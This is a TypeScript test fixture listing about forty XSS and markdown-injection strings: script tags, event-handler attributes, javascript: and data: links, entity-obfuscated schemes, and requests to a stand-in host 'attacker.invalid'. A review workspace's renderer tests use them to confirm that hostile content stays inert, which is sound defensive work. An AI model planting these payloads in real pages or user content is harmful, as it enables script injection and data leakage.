// Hostile strings the review workspace must show as text and never run, load or follow: used by the
// markdown unit test and the browser test (e2e/review-xss.spec.ts), which imports them as prompt,
// response and note. Every payload that could run calls window.__pwned(…) or sets
// window.__parallaxPwned, or requests /attacker/… or http://attacker.invalid/…, so a test can
// watch for all three.
export const XSS_FLAG = "__parallaxPwned";
export const ATTACKER_HOST = "attacker.invalid";

export const XSS_PAYLOADS: readonly string[] = [
  `<script>window.${XSS_FLAG}=1;alert(1)</script>`,
  `<img src=x onerror="window.${XSS_FLAG}=2;alert(2)">`,
  `<svg onload="window.${XSS_FLAG}=3;alert(3)"><circle r="4"/></svg>`,
  `<svg><script>window.${XSS_FLAG}=4</script></svg>`,
  `<iframe src="javascript:window.parent.${XSS_FLAG}=5"></iframe>`,
  `<a href="javascript:window.${XSS_FLAG}=6">click me</a>`,
  `<div onmouseover="window.${XSS_FLAG}=7" style="position:fixed;inset:0">hover</div>`,
  `<body onload="window.${XSS_FLAG}=8">`,
  `<details open ontoggle="window.${XSS_FLAG}=9">x</details>`,
  `<input autofocus onfocus="window.${XSS_FLAG}=10">`,
  `<object data="data:text/html,<script>parent.${XSS_FLAG}=11</script>"></object>`,
  `<embed src="http://${ATTACKER_HOST}/embed.swf">`,
  `<link rel="stylesheet" href="http://${ATTACKER_HOST}/style.css">`,
  `<meta http-equiv="refresh" content="0;url=http://${ATTACKER_HOST}/refresh">`,
  `<style>@import url(http://${ATTACKER_HOST}/import.css); body{background:url(/attacker/bg.png)}</style>`,
  `<form action="http://${ATTACKER_HOST}/form"><button>go</button></form>`,
  `<video><source onerror="window.${XSS_FLAG}=12"></video>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="window.${XSS_FLAG}=13">`,
  `[click](javascript:window.${XSS_FLAG}=14)`,
  `[click](JaVaScRiPt:window.${XSS_FLAG}=15)`,
  `[click](java\tscript:window.${XSS_FLAG}=16)`,
  `[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[vb](vbscript:msgbox(17))`,
  `![tracking pixel](http://${ATTACKER_HOST}/pixel.png)`,
  `![local](/attacker/local.png)`,
  `![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMTgpPjwvc3ZnPg==)`,
  `![ref image][pixel]\n\n[pixel]: http://${ATTACKER_HOST}/ref-pixel.png`,
  `[ref link][evil]\n\n[evil]: javascript:window.${XSS_FLAG}=19`,
  `<http://${ATTACKER_HOST}/autolink>`,
  `www.${ATTACKER_HOST}/gfm-autolink`,
  `[looks safe](https://example.org "title\\" onmouseover=\\"window.${XSS_FLAG}=20")`,
  `&lt;script&gt;window.${XSS_FLAG}=21&lt;/script&gt; and &#60;img src=x onerror=alert(22)&#62;`,
  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(23)`,
  `[entity link](&#106;avascript:window.${XSS_FLAG}=24)`,
  "```html\n<script>window." + XSS_FLAG + "=25</script>\n```",
  `Footnote[^1]\n\n[^1]: <img src=/attacker/footnote.png onerror=alert(26)>`,
  `"><img src=x onerror=alert(27)>`,
  `'';!--"<XSS>=&{()}`,
  `<a href="/attacker/relative">relative</a> [rel](/attacker/md-relative)`,
  `\u202Etxt.exe <b onclick="window.${XSS_FLAG}=28">bold</b>`,
];

/** All payloads in one text, separated so markdown reads each on its own. */
export const XSS_DOCUMENT = XSS_PAYLOADS.join("\n\n");
